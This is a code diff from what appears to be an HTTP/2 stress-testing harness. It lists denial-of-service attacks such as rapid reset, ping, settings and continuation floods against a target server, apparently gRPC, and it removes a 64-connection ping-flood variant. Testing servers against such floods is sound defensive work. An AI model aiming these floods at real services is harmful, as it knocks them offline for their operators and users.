@@ -51,17 +51,9 @@ async def rapid_reset(target: Target) -> Answers:
 
 
 async def ping_flood(target: Target) -> Answers:
-    """Sends 800,000 pings on eight connections."""
+    """Sends 800,000 pings."""
     pings = frame(PING, 0, 0, b"attacker") * 1000
     return await _on_connections(target, lambda connection: flood(connection, pings, 100))
-
-
-async def ping_floods(target: Target) -> Answers:
-    """Sends 20,000 pings on each of 64 connections, which are more than gRPC has threads."""
-    pings = frame(PING, 0, 0, b"attacker") * 20_000
-    return await _on_connections(
-        target, lambda connection: flood(connection, pings, 1), n_connections=64
-    )
 
 
 async def settings_flood(target: Target) -> Answers:
@@ -130,10 +122,7 @@ async def many_calls(target: Target) -> Answers:
 
 
 async def _on_connections(
-    target: Target,
-    attack: Callable[[Connection], Awaitable[Answers]],
-    *,
-    n_connections: int = N_CONNECTIONS,
+    target: Target, attack: Callable[[Connection], Awaitable[Answers]]
 ) -> Answers:
     """Attacks on several connections at once."""
     answers: Answers = Counter()
@@ -149,14 +138,13 @@ async def _on_connections(
         finally:
             await connection.close()
 
-    await asyncio.gather(*(one() for _ in range(n_connections)))
+    await asyncio.gather(*(one() for _ in range(N_CONNECTIONS)))
     return +answers
 
 
 ATTACKS = (
     Attack(name="rapid_reset", run=rapid_reset),
     Attack(name="ping_flood", run=ping_flood),
-    Attack(name="ping_floods", run=ping_floods),
     Attack(name="settings_flood", run=settings_flood),
     Attack(name="continuation_flood", run=continuation_flood),
     Attack(name="huge_metadata", run=huge_metadata),
